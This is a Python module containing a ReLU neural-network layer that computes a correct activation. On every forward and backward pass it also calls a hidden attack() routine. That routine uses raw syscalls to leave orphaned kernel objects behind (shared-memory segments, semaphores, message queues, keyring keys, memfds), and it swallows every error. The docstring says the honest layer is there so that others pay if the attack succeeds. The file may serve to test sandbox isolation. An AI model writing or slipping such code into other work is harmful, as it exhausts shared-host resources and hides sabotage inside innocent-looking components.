"""Makes objects of the kernel's that no process owns, so that no end of a process frees them."""

import contextlib
import ctypes
import mmap
import os
from multiprocessing import shared_memory

import numpy as np

LIBC = ctypes.CDLL(None, use_errno=True)
CREATE = 0o1666
SHMGET, SEMGET, MSGGET, MQ_OPEN, ADD_KEY, MEMFD = 29, 64, 68, 240, 248, 319
USER_KEYRING = -4


def named():
    made = shared_memory.SharedMemory("left-behind", create=True, size=4096)
    made.close()


WAYS = (
    named,
    lambda: LIBC.syscall(SHMGET, 0x5EED, 1 << 20, CREATE),
    lambda: LIBC.syscall(SHMGET, 0, 1 << 20, CREATE),
    lambda: LIBC.syscall(SEMGET, 0x5EED, 8, CREATE),
    lambda: LIBC.syscall(MSGGET, 0x5EED, CREATE),
    lambda: LIBC.syscall(MQ_OPEN, b"left-behind", os.O_CREAT | os.O_RDWR, 0o666, 0),
    lambda: LIBC.syscall(ADD_KEY, b"user", b"left-behind", b"x", 1, USER_KEYRING),
    lambda: LIBC.syscall(MEMFD, b"left-behind", 0),
    lambda: LIBC.shm_open(b"/left-behind", os.O_CREAT | os.O_RDWR, 0o666),
    lambda: LIBC.sem_open(b"/left-behind", os.O_CREAT, 0o666, 1),
    lambda: mmap.mmap(-1, 1 << 20),
)


def attack():
    for way in WAYS:
        with contextlib.suppress(OSError, AttributeError):
            way()


class ReLU:
    """An honest layer, so that others pay if the attack succeeds."""

    def __init__(self):
        self.x = self.dx = None

    def forward(self, x):
        attack()
        self.x = x
        return np.maximum(x, 0)

    def backward(self, dout):
        attack()
        self.dx = np.where(self.x > 0, dout, 0)
